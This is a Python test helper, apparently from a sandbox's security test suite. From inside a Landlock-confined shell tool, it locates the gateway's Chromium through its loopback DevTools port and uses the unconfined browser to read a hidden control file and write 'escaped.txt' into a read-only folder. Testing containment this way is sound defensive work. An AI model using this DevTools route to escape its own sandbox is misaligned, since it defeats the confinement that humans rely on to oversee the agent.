"""Run by a contained `bash_execute` in test_gate_attacks2.py: finds the gateway's Chromium by
its loopback DevTools port, has it (unconfined) read a file Landlock hides and download a file
into a folder Landlock keeps read-only. Prints what it got as one JSON line."""

import json
import os
import sys
import time
import urllib.request

from websockets.sync.client import connect

home, dest = sys.argv[1], sys.argv[2]
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
ports = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    for line in open(table).read().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A":  # LISTEN
            ports.add(int(fields[1].rsplit(":", 1)[1], 16))
version = None
for port in sorted(ports):
    try:
        version = json.load(opener.open(f"http://127.0.0.1:{port}/json/version", timeout=1))
        # The gateway's own browser is the one showing the page the agent opened (other
        # browsers on this machine — a test's, the person's — are not the gateway's doing).
        pages = json.load(opener.open(f"http://127.0.0.1:{port}/json/list", timeout=1))
        if "webSocketDebuggerUrl" in version and any("site.test" in p.get("url", "") for p in pages):
            break
        version = None
    except Exception:
        pass
out = {"ports": sorted(ports), "devtools": bool(version)}
if version:
    counter = [0]
    with connect(version["webSocketDebuggerUrl"], max_size=None, open_timeout=10) as ws:

        def call(method, params=None, session=None):
            counter[0] += 1
            msg = {"id": counter[0], "method": method, "params": params or {}}
            if session:
                msg["sessionId"] = session
            ws.send(json.dumps(msg))
            while True:
                reply = json.loads(ws.recv(timeout=10))
                if reply.get("id") == counter[0]:
                    return reply

        target = call("Target.createTarget", {"url": "file://" + os.path.join(home, "run", "control")})
        tid = target["result"]["targetId"]
        sid = call("Target.attachToTarget", {"targetId": tid, "flatten": True})["result"]["sessionId"]
        read = ""
        for _ in range(100):
            got = call("Runtime.evaluate", {"expression": "document.body ? document.body.innerText : ''",
                                             "returnByValue": True}, sid)
            read = got.get("result", {}).get("result", {}).get("value", "")
            if read:
                break
            time.sleep(0.1)
        out["control"] = read.strip()
        out["download"] = call("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": dest})
        call("Runtime.evaluate", {"expression": "(() => { const a = document.createElement('a');"
                                  " a.href = URL.createObjectURL(new Blob(['written by the agent']));"
                                  " a.download = 'escaped.txt'; document.body.appendChild(a); a.click(); return 1 })()",
                                  "returnByValue": True}, sid)
        for _ in range(100):
            if os.path.exists(os.path.join(dest, "escaped.txt")):
                break
            time.sleep(0.1)
print(json.dumps(out))
